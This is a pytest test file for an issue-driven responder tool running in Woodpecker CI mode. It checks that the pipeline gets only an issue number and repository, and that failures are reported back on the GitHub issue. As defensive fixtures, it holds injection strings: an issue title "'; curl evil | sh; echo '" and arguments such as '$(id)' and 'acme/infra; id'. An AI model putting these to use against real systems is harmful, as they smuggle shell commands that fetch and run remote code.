"""Woodpecker mode end to end: start the pipeline with two variables, follow it, report failures on the issue.

Woodpecker's API is served by a loopback HTTP server in its real shapes
(repo lookup, pipeline create and get); GitHub's by FakeGitHub at the
HTTP boundary. The in-cluster half, `responder handle --issue N`, reads the
issue through the API and never takes its text from a variable.
"""

from __future__ import annotations

import io
import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

import pytest
import responses

from responder.cli import main
from responder.runner_failure import MARKER
from tests.conftest import EXAMPLE_CONFIG, issue_body
from tests.support import events
from tests.support.github_api import FakeGitHub
from tests.support.http_services import JsonHandler, base_url, closed_port_url, serve

GITHUB_TOKEN = "ghs_" + "W00dp3ckerM0de" * 3
WOODPECKER_TOKEN = "wpt_" + "Pers0nalAcc3ssT0ken" * 2


@dataclass
class Woodpecker:
    statuses: list[str] = field(default_factory=lambda: ["pending", "running", "success"])
    created: list[dict[str, Any]] = field(default_factory=list)
    auth: list[str] = field(default_factory=list)
    gets: int = 0
    url: str = ""


@pytest.fixture
def woodpecker() -> Iterator[Woodpecker]:
    state = Woodpecker()

    def pipeline(status: str) -> dict[str, Any]:
        return {"id": 9041, "number": 57, "author": "issueops-responder", "parent": 0, "event": "manual",
                "status": status, "errors": None, "created": 1763906760, "updated": 1763906761,
                "started": 1763906762, "finished": 0, "deploy_to": "", "commit": "4f1c0e2", "branch": "main",
                "ref": "refs/heads/main", "refspec": "", "title": "", "message": "MANUAL PIPELINE @ main",
                "timestamp": 1763906760, "sender": "issueops-responder", "author_avatar": "", "author_email": "",
                "forge_url": "https://github.com/acme-homelab/infra/commit/4f1c0e2", "reviewed_by": "",
                "reviewed": 0, "variables": {"ISSUE_NUMBER": "42", "ISSUE_REPOSITORY": "acme-homelab/infra"}}

    class Handler(JsonHandler):

        def do_GET(self) -> None:
            state.auth.append(self.headers.get("Authorization", ""))
            if self.path == "/api/repos/lookup/acme-homelab/infra":
                self.send_json(200, {"id": 12, "forge_remote_id": "771234", "owner": "acme-homelab", "name": "infra",
                                 "full_name": "acme-homelab/infra", "default_branch": "main", "active": True})
            elif self.path == "/api/repos/12/pipelines/57":
                state.gets += 1
                self.send_json(200, pipeline(state.statuses[min(state.gets, len(state.statuses) - 1)]))
            else:
                self.send_json(404, {"message": "not found"})

        def do_POST(self) -> None:
            state.auth.append(self.headers.get("Authorization", ""))
            body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
            state.created.append(body)
            self.send_json(200, pipeline(state.statuses[0]))

    with serve(Handler) as server:
        state.url = base_url(server)
        yield state


@pytest.fixture
def github() -> Iterator[FakeGitHub]:
    with responses.RequestsMock(assert_all_requests_are_fired=False) as rsps:
        rsps.add_passthru("http://127.0.0.1")
        fake = FakeGitHub(rsps)
        fake.permissions.update({"alice": "write"})
        payload = events.issues_event("opened", body=issue_body("outage-nextcloud-502.md"))
        payload["issue"]["number"] = 42
        payload["issue"]["title"] = "'; curl evil | sh; echo '"
        fake.add_issue(payload["issue"])
        yield fake


def cli(*argv: str, env: dict[str, str] | None = None) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    base = {"GITHUB_TOKEN": GITHUB_TOKEN, "WOODPECKER_TOKEN": WOODPECKER_TOKEN, "RESPONDER_GITHUB_WRITE_INTERVAL": "0"}
    try:
        code = main(list(argv), env={**base, **(env or {})}, stdout=out, stderr=err)
    except SystemExit as exc:  # argparse refused the arguments (its message went to err)
        code = int(str(exc.code))
    return code, out.getvalue(), err.getvalue()


def start(url: str, *extra: str) -> tuple[int, str, str]:
    return cli("woodpecker", "run", "--config", str(EXAMPLE_CONFIG), "--issue", "42", "--server", url,
               "--poll", "0", *extra)


def test_the_pipeline_gets_only_the_issue_number_and_repository(woodpecker: Woodpecker, github: FakeGitHub) -> None:
    code, _, err = start(woodpecker.url)
    assert code == 0, err
    assert woodpecker.created == [{"branch": "main",
                                   "variables": {"ISSUE_NUMBER": "42", "ISSUE_REPOSITORY": "acme-homelab/infra"}}]
    assert set(woodpecker.auth) == {f"Bearer {WOODPECKER_TOKEN}"}
    assert github.writes() == []  # success: nothing to report
    assert WOODPECKER_TOKEN not in err


@pytest.mark.parametrize(("statuses", "what"), [
    (["pending", "running", "failure"], "The in-cluster pipeline #\u200b57 ended with status failure"),
    (["pending", "killed"], "The in-cluster pipeline #\u200b57 ended with status killed"),
], ids=["failure", "killed"])
def test_a_failed_pipeline_is_reported_on_the_issue(woodpecker: Woodpecker, github: FakeGitHub,
                                                    statuses: list[str], what: str) -> None:
    woodpecker.statuses = statuses
    code, _, err = start(woodpecker.url)
    assert code == 1
    assert "reported on the issue" in err
    [comment] = github.bot_comments(42)
    assert comment["body"].startswith("### ⚠️ The responder could not finish its run\n\n" + what)
    assert f"Details: {woodpecker.url}/repos/12/pipeline/57" in comment["body"]
    assert MARKER in comment["body"]
    assert "needs-human" in github.labels(42)


def test_a_pipeline_that_outlasts_the_wait_is_reported_once(woodpecker: Woodpecker, github: FakeGitHub) -> None:
    woodpecker.statuses = ["blocked"]
    assert start(woodpecker.url, "--timeout", "0")[0] == 1
    assert start(woodpecker.url, "--timeout", "0")[0] == 1
    [comment] = github.bot_comments(42)  # the second report edits the first
    assert "was still blocked when the wait ran out" in comment["body"]


def test_an_unreachable_woodpecker_is_reported_too(github: FakeGitHub) -> None:
    code, _, err = start(closed_port_url().rstrip("/"))
    assert code == 1
    assert "cannot reach Woodpecker" in err
    [comment] = github.bot_comments(42)
    assert "The in-cluster pipeline could not be started (cannot reach Woodpecker" in comment["body"]


def test_report_failure_links_the_actions_run(github: FakeGitHub) -> None:
    code, out, _ = cli("report-failure", "--config", str(EXAMPLE_CONFIG), "--issue", "42",
                       "--reason", "The responder's GitHub Actions job failed",
                       env={"GITHUB_SERVER_URL": "https://github.com", "GITHUB_REPOSITORY": "acme-homelab/infra",
                            "GITHUB_RUN_ID": "11223344"})
    assert code == 0 and out.startswith("reported the failure on #42: https://github.com/acme-homelab/infra/issues/42")
    body = github.bot_comments(42)[0]["body"]
    assert "Details: https://github.com/acme-homelab/infra/actions/runs/11223344" in body


def test_the_pipeline_side_reads_the_issue_through_the_api(github: FakeGitHub) -> None:
    code, out, err = cli("handle", "--config", str(EXAMPLE_CONFIG), "--issue", "42", "--dry-run", "--no-probe")
    assert code == 0, err
    decision = json.loads(out)
    assert (decision["issue"], decision["event"], decision["outcome"]) == (42, "issues.edited", "triaged")
    assert github.log[0] == ("GET", "/repos/acme-homelab/infra/issues/42")


@pytest.mark.parametrize("argv", [
    ("--issue", "$(id)"), ("--issue", "0"), ("--issue", "42", "--repository", "acme/infra; id"),
])
def test_the_pipeline_side_refuses_malformed_variables(github: FakeGitHub, argv: tuple[str, ...]) -> None:
    code, _, err = cli("handle", "--config", str(EXAMPLE_CONFIG), *argv)
    assert code == 2
    assert github.requests == 0
    assert ("expected an issue number" in err or "OWNER/NAME" in err) and "Traceback" not in err
